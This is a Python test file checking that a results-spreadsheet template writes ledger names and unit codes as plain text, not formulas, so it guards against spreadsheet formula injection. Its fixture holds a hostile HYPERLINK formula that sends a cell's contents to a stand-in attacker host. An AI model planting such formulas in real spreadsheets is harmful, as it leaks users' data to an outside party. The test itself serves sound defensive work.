"""The results template the submit pages hand out: names from the ledger are text, never formulas."""

from __future__ import annotations

import io

import openpyxl

from web.areas.submit.table import template_workbook

HOSTILE = '=HYPERLINK("http://attacker.example/?d="&D6,"Xem")'


def test_an_index_and_a_unit_named_like_a_formula_are_string_cells_in_the_template() -> None:
    index = {"code": "DDCI_UNIT", "name": HOSTILE, "level": "unit", "classes": ["department"]}
    units = [
        {"code": "=1+2", "name": HOSTILE, "unit_class": "department", "status": "active"},
        {"code": "SYT", "name": "Sở Y tế", "unit_class": "department", "status": "active"},
    ]

    sheet = openpyxl.load_workbook(io.BytesIO(template_workbook(index, units))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {(cell.coordinate, cell.data_type) for cell in cells if "=" in str(cell.value)} == {
        ("A1", "s"),  # "Kết quả =HYPERLINK(…)" starts with text: a string anyway
        ("A4", "s"),
        ("B4", "s"),
    }
    assert sheet["A4"].value == "=1+2"
    assert sheet["B4"].value == HOSTILE
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in sheet[3]] == [
        "Mã đơn vị",
        "Tên đơn vị",
        "Loại đơn vị",
        "Điểm",
        "Xếp hạng",
        "Xếp loại",
    ]
